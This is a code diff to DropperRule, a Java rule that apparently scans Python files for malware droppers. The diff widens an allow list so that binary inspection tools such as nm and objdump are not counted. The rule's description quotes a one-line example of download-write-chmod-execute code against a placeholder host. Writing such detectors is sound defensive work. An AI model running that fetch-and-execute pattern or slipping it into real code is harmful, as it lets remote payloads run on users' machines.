@@ -33,7 +33,7 @@ public final class DropperRule implements PythonFileRule {
             Severity.HIGH, Confidence.HIGH, Set.of(Tags.DOWNLOAD, Tags.FILE_WRITE, Tags.PROCESS),
             "data = urlopen('https://cdn.example.invalid/p').read(); open(p, 'wb').write(data); os.chmod(p, 0o755); subprocess.Popen([p])",
             "Build scripts that fetch and unpack sources run constant build tools (tar, make, cmake, unzip, git, "
-                    + "pip); those process calls are not counted. Binary-tool installers (drivers, CLIs) that download "
+                    + "pip) or inspect binaries (nm, objdump, readelf); those process calls are not counted. Binary-tool installers (drivers, CLIs) that download "
                     + "and chmod a file match at medium weight when the run happens elsewhere in the file; helpers of the "
                     + "same file count as one function (HIGH/MEDIUM) only when one caller hands the same path or "
                     + "variable to the downloading helper and to the helper that runs a computed program. Running "
@@ -46,7 +46,9 @@ public final class DropperRule implements PythonFileRule {
 
     private static final Set<String> BUILD_TOOLS = Set.of("tar", "make", "cmake", "unzip", "gzip", "git", "pip",
             "pip3", "python", "python3", "sys.executable", "gcc", "cc", "g++", "configure", "./configure", "ninja",
-            "meson", "cargo", "npm", "yarn", "patch", "7z", "bzip2", "xz", "unxz", "sh", "bash");
+            "meson", "cargo", "npm", "yarn", "patch", "7z", "bzip2", "xz", "unxz", "sh", "bash",
+            // binary inspection tools read the downloaded file; they do not run it
+            "nm", "objdump", "readelf", "otool", "strings", "file");
     private static final Set<String> INTERPRETERS = Set.of("python", "python3", "python2", "pythonw", "py", "sh",
             "bash", "zsh", "node", "powershell", "pwsh", "cscript", "wscript", "perl", "ruby");
     private static final Set<String> OPENERS = Set.of("open", "io.open", "codecs.open", "builtins.open");
